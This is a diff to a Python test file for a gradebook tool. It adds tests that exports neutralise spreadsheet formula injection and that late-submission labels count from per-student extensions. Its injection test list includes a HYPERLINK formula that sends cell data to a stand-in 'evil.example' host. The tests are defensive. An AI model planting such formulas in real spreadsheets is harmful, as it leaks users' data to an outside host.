@@ -4,18 +4,21 @@ return: OWASP's CSV injection) is written with a "'" before it, and numbers stay
 Issue 39, case 8: student ids such as =HYPERLINK(...), +2+3, -2+3, @SUM(1+1) and a
 leading tab were written raw. (Collect refuses such ids: tests/test_collect.py; here they
 are put into the gradebook directly, as no collect would, and a status quotes a
-submitted notebook's name.)"""
+submitted notebook's name.) And the late column counts from a student's own due date."""
 
 import contextlib
 import csv
+import datetime
 import io
+import zoneinfo
 
 import pytest
 from openpyxl import Workbook
 
 from tools import gradebook
 from tools.course import build_course
-from tools.grades import cell, export
+from tools.grades import cell, export, late_column
+from tools.late import Policy, decide
 from tools.release import release
 
 FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+2+3", "-2+3", "@SUM(1+1)",
@@ -81,3 +84,30 @@ def test_a_cell_is_prefixed_only_where_a_spreadsheet_would_run_it(value, written
     """Own case (rule 7): the prefix goes on text alone; a number, negative included,
     stays a number."""
     assert cell(value) == written and type(cell(value)) is type(written)
+
+
+BERLIN = zoneinfo.ZoneInfo("Europe/Berlin")
+DUE = datetime.datetime(2026, 10, 5, 23, 59, tzinfo=BERLIN)
+POLICY = Policy(zone=BERLIN, extensions={"unit1": {"ada": datetime.datetime(
+    2026, 10, 7, 23, 59, tzinfo=BERLIN)}})
+
+
+@pytest.mark.parametrize("student,when,marker,late", [
+    ("bob", datetime.datetime(2026, 10, 5, 20, 0), False, ""),  # on time
+    ("bob", datetime.datetime(2026, 10, 6, 0, 29, 30), False, "2 h 31 min late"),
+    ("ada", datetime.datetime(2026, 10, 6, 20, 0), False,  # late by the course's date alone
+     "on time (extension to 2026-10-07 23:59 CEST)"),
+    ("ada", datetime.datetime(2026, 10, 7, 22, 30), False,
+     "31 min late (extension to 2026-10-07 23:59 CEST)"),
+    ("ada", None, True, "late by Canvas's _LATE marker; no time (extension to 2026-10-07 "
+                        "23:59 CEST)"),
+    ("bob", None, False, "time unknown"),
+])
+def test_the_late_column_counts_from_the_students_own_due_date(student, when, marker, late):
+    """The late column and the penalty agree: both count from the student's extension
+    where they have one (issue 40's review: ada was "22 h 1 min late" beside "on time
+    (extension ...)"). when: naive UTC, as nbgrader stores it."""
+    aware = when and when.replace(tzinfo=datetime.timezone.utc)
+    decision = decide(POLICY, "unit1", student, DUE, aware, marker, 5.5, 0)
+    record = {"late_marker": True} if marker else {}
+    assert late_column(decision, record, BERLIN) == late
